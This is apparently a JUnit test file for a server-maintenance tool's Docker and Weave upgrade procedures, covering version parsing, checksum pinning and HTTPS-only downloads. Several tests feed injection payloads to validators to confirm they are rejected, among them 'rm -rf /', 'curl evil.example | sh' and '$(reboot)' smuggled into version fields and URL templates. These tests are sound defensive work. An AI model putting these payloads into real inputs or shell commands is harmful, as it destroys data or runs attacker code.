package dev.upkeep.remote;

import dev.upkeep.fleet.Settings;
import dev.upkeep.manifest.ManifestDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Optional;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Manifest versions → procedures, checked before any server is contacted; Docker's apt version scheme. */
class DockerWeaveProceduresTest {
    private static final String HEX = "ab".repeat(32);
    private static final DockerWeaveProcedures BOTH = new DockerWeaveProcedures(new DockerWeaveProcedures.Options(
            true, true, false, null, java.util.Map.of("2.8.1", "sha256:" + HEX), null, null, null));

    private static ManifestDocument manifest(String yaml) {
        return ManifestDocument.parse(yaml, "Manifest.yml");
    }

    private static ManifestDocument corpus(String path) throws Exception {
        try (InputStream in = DockerWeaveProceduresTest.class.getResourceAsStream("/manifests/" + path)) {
            return ManifestDocument.parse(new String(in.readAllBytes(), StandardCharsets.UTF_8), path);
        }
    }

    @Test
    void aShellCommandInDockerVersionIsRejectedBeforeAnyProcedureExists() {
        ManifestDocument hostile = manifest("""
                docker:
                  configuration:
                    docker_version: "24.0.7; rm -rf /"
                    weave_version: 2.8.1
                """);
        assertThatThrownBy(() -> BOTH.forApplication(hostile, null))
                .isInstanceOf(UpgradeTargetsException.class)
                .hasMessage("Manifest.yml: docker.configuration.docker_version is not a Docker version like 24.0.7 or"
                        + " 18.03.0-ce: '24.0.7; rm -rf /'");
        assertThatThrownBy(() -> new DockerUpgrade("24.0.7; rm -rf /", false)).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void theCorpusInjectionManifestIsRejectedToo() throws Exception {
        ManifestDocument doc = corpus("bad/b11-docker-version-injection.yml");
        assertThatThrownBy(() -> UpgradeTargets.of(doc, null)).isInstanceOf(UpgradeTargetsException.class)
                .hasMessageContaining("'24.0.7; curl evil.example | sh'");
    }

    @Test
    void dockerComesBeforeWeaveWithTheManifestsVersions() throws Exception {
        List<Procedure> procedures = BOTH.forApplication(manifest("""
                docker:
                  configuration:
                    docker_version: 24.0.7
                    weave_version: 2.8.1
                """), null);
        assertThat(procedures).extracting(Procedure::name).containsExactly("Docker 24.0.7", "Weave 2.8.1");
        assertThat(((WeaveUpgrade) procedures.get(1)).url())
                .isEqualTo("https://github.com/weaveworks/weave/releases/download/v2.8.1/weave");
        assertThat(((WeaveUpgrade) procedures.get(1)).sha256()).isEqualTo(HEX);
        assertThat(((DockerUpgrade) procedures.get(0)).limit()).isEqualTo(java.time.Duration.ofMinutes(15));
    }

    private static final ManifestDocument WEAVE_281 = manifest("docker:\n  configuration:\n    weave_version: 2.8.1\n");

    @Test
    void aWeaveVersionWithNeitherPinNorWorkspaceChecksumIsRefusedBeforeAnythingConnects() {
        var defaults = new DockerWeaveProcedures(new DockerWeaveProcedures.Options(false, true, false, null));
        assertThatThrownBy(() -> defaults.forApplication(WEAVE_281, null)).isInstanceOf(UpgradeTargetsException.class)
                .hasMessageStartingWith("Upkeep ships no verified SHA-256 pin for Weave 2.8.1, so its download from"
                        + " https://github.com/weaveworks/weave/releases/download/v2.8.1/weave cannot be checked and is refused.")
                .hasMessageContaining("settings: weaveChecksums: {\"2.8.1\": \"sha256:<64 hex digits>\"}");
        var fork = new DockerWeaveProcedures(new DockerWeaveProcedures.Options(false, true, false,
                "https://weave.example.com/releases/{version}/weave"));
        assertThatThrownBy(() -> fork.forApplication(manifest("docker:\n  configuration:\n    weave_version: 2.9.3\n"), null))
                .isInstanceOf(UpgradeTargetsException.class)
                .hasMessageStartingWith("Weave 2.9.3 is not a release Upkeep knows (a mirror or fork), so its download from"
                        + " https://weave.example.com/releases/2.9.3/weave cannot be checked and is refused.");
    }

    @Test
    void aPinChecksTheDownloadAndTheWorkspacesChecksumOverridesIt() throws Exception {
        String pin = "cd".repeat(32);
        var pinned = new DockerWeaveProcedures(new DockerWeaveProcedures.Options(false, true, false,
                "https://weave.example.com/{version}/weave", null, null, java.time.Duration.ofSeconds(42),
                WeavePins.of(java.util.Map.of("2.8.1", pin))));
        WeaveUpgrade fromPin = (WeaveUpgrade) pinned.forApplication(WEAVE_281, null).get(0);
        assertThat(fromPin.sha256()).isEqualTo(pin);
        var overridden = new DockerWeaveProcedures(new DockerWeaveProcedures.Options(false, true, false, null,
                java.util.Map.of("2.8.1", "sha256:" + HEX.toUpperCase()), null, null, WeavePins.of(java.util.Map.of("2.8.1", pin))));
        assertThat(((WeaveUpgrade) overridden.forApplication(WEAVE_281, null).get(0)).sha256()).isEqualTo(HEX);
        assertThatThrownBy(() -> new WeaveUpgrade("2.8.1", Settings.DEFAULT_WEAVE_DOWNLOAD_URL, "abc", WeaveUpgrade.DEFAULT_LIMIT))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("not a SHA-256");
    }

    @Test
    void theBundledPinsListTheKnownReleasesAndPinOnlyWhatWasVerified() {
        WeavePins pins = WeavePins.bundled();
        for (String v : List.of("2.6.5", "2.7.0", "2.8.0", "2.8.1")) {
            assertThat(pins.known(v)).as(v).isTrue();
        }
        assertThat(pins.known("2.6.6")).as("never released").isFalse();
        assertThat(pins.known("2.8.2")).isFalse();
        // No two agreeing public sources were found for any of them (docs/decisions): none is pinned.
        for (String v : List.of("2.6.5", "2.7.0", "2.8.0", "2.8.1")) {
            assertThat(pins.pin(v)).as(v).isEmpty();
        }
        assertThatThrownBy(() -> WeavePins.parse("2.8.1  nothex\n")).isInstanceOf(IllegalStateException.class)
                .hasMessageContaining("line 1");
    }

    @Test
    void plainHttpIsRefusedForTheWeaveDownloadEverywhere() {
        String http = "http://weave.example.com/{version}/weave";
        assertThat(Settings.isWeaveUrlTemplate(http)).isFalse();
        assertThatThrownBy(() -> new DockerWeaveProcedures.Options(false, true, false, http))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("https");
        assertThatThrownBy(() -> WeaveUpgrade.downloadUrl(http, "2.8.1")).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("http is refused");
        assertThatThrownBy(() -> new WeaveUpgrade("2.8.1", http, HEX, WeaveUpgrade.DEFAULT_LIMIT))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void anOlderManifestsVersionKeyUnderItsEnvironmentIsRead() throws Exception {
        ManifestDocument doc = corpus("good/03-older-version-key.yml");
        assertThat(UpgradeTargets.of(doc, "production")).isEqualTo(new UpgradeTargets(Optional.of("18.03.0-ce"), Optional.of("2.3.0")));
        assertThat(UpgradeTargets.of(doc, "staging").docker()).contains("17.06.2-ce");
        assertThatThrownBy(() -> UpgradeTargets.of(doc, "qa")).hasMessageContaining("has no environment 'qa'");
    }

    @Test
    void anOptionWithoutItsVersionInTheManifestIsBadInput() throws Exception {
        ManifestDocument dockerOnly = manifest("docker:\n  configuration:\n    docker_version: 25.0.3\n");
        assertThatThrownBy(() -> BOTH.forApplication(dockerOnly, null)).isInstanceOf(UpgradeTargetsException.class)
                .hasMessage("Manifest.yml names no Weave version (docker: configuration: weave_version)");
        var dockerOption = new DockerWeaveProcedures(new DockerWeaveProcedures.Options(true, false, true, null));
        assertThat(dockerOption.forApplication(dockerOnly, null)).singleElement()
                .isInstanceOfSatisfying(DockerUpgrade.class, d -> assertThat(d.allowDowngrade()).isTrue());
        var none = new DockerWeaveProcedures(new DockerWeaveProcedures.Options(false, false, false, null));
        assertThat(none.forApplication(manifest("{}"), null)).isEmpty();
    }

    @Test
    void theWeaveUrlTemplateTakesTheVersionAndMustStayPlain() {
        assertThat(WeaveUpgrade.downloadUrl("https://mirror.example.com/weave/{version}/weave-{version}", "2.8.1"))
                .isEqualTo("https://mirror.example.com/weave/2.8.1/weave-2.8.1");
        assertThat(Settings.isWeaveUrlTemplate(Settings.DEFAULT_WEAVE_DOWNLOAD_URL)).isTrue();
        assertThatThrownBy(() -> new DockerWeaveProcedures.Options(false, true, false, "https://x/weave"))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> WeaveUpgrade.downloadUrl("https://x/{version}'$(reboot)'", "2.8.1"))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> WeaveUpgrade.downloadUrl("ftp://x/{version}", "2.8.1"))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new WeaveUpgrade("2.8.1 && reboot", Settings.DEFAULT_WEAVE_DOWNLOAD_URL, HEX,
                WeaveUpgrade.DEFAULT_LIMIT)).isInstanceOf(IllegalArgumentException.class);
    }

    @ParameterizedTest(name = "{0} is Docker {1}")
    @CsvSource({
            "5:24.0.7-1~debian.12~bookworm, 24.0.7",
            "5:25.0.3-1~ubuntu.22.04~jammy, 25.0.3",
            "5:18.09.0~3-0~debian-stretch, 18.09.0",
            "18.03.0~ce-0~debian, 18.03.0-ce",
            "18.06.3~ce~3-0~debian, 18.06.3-ce",
            "17.03.0~ce-0~debian-jessie, 17.03.0-ce",
            "5:24.0.0~rc.1-1~debian.12~bookworm, ''",
            "24.0.7, ''"})
    void dockerPackageVersionsMapToDockerVersions(String packageVersion, String docker) {
        assertThat(DockerCandidates.dockerVersionOf(packageVersion).orElse("")).isEqualTo(docker);
    }

    @Test
    void madisonIsParsedAndTheNewestMatchingPackageChosen() {
        List<String> offered = DockerCandidates.parse(List.of(
                " docker-ce | 5:25.0.3-1~debian.12~bookworm | https://download.docker.com/linux/debian bookworm/stable amd64 Packages",
                " docker-ce | 5:24.0.7-1~debian.12~bookworm | https://download.docker.com/linux/debian bookworm/stable amd64 Packages",
                " docker-ce | 5:24.0.7-1~debian.12~bookworm | http://mirror.local/docker bookworm/stable amd64 Packages",
                "docker-ce | 18.06.3~ce~3-0~debian | https://download.docker.com/linux/debian stretch/stable amd64 Packages",
                "garbage"));
        assertThat(offered).containsExactly("5:25.0.3-1~debian.12~bookworm", "5:24.0.7-1~debian.12~bookworm",
                "18.06.3~ce~3-0~debian");
        assertThat(DockerCandidates.match(offered, "24.0.7")).contains("5:24.0.7-1~debian.12~bookworm");
        assertThat(DockerCandidates.match(offered, "18.06.3-ce")).contains("18.06.3~ce~3-0~debian");
        assertThat(DockerCandidates.match(offered, "18.06.3")).isEmpty();
        assertThat(DockerCandidates.match(offered, "24.0.6")).isEmpty();
        assertThat(DockerCandidates.releases(offered)).containsExactly("25.0.3", "24.0.7", "18.06.3-ce");
    }
}
